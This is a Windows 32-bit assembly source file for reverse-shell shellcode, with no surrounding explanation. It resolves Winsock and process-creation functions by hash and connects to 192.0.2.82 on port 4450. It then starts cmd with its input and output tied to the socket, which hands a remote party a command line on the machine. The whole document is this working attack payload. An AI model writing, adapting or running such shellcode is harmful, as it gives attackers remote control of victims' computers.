; Windows, 32 bit: connects to 192.0.2.82 port 4450 and gives it a command line.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH startup, 'WSAStartup'
HASH socket_of, 'WSASocketA'
HASH connect_to, 'connect'
HASH create, 'CreateProcessA'
        RESOLVER
        LOAD library
        mov esi, eax
        sub esp, 0x190
        push esp
        push dword 0x202
        CALL_API esi, startup
        xor ecx, ecx
        push ecx
        push ecx
        push ecx
        push ecx
        push byte 1
        push byte 2
        CALL_API esi, socket_of
        mov edi, eax
        push dword 0x520200c0
        push dword 0x62110002
        mov ecx, esp
        push byte 16
        push ecx
        push edi
        CALL_API esi, connect_to
        xor eax, eax
        push edi                ; STARTUPINFOA from its end
        push edi
        push edi
        push eax
        push eax
        push dword 0x101
        push byte 10
        pop ecx
zero:   push eax
        loop zero
        push byte 68
        mov ecx, esp
        sub esp, byte 16
        push esp
        push ecx
        push eax
        push eax
        push eax
        push byte 1
        push eax
        push eax
        lea edx, AT(command)
        push edx
        push eax
        CALL_API ebx, create
        jmp short $
library: db 'ws2_32', 0
command: db 'cmd', 0
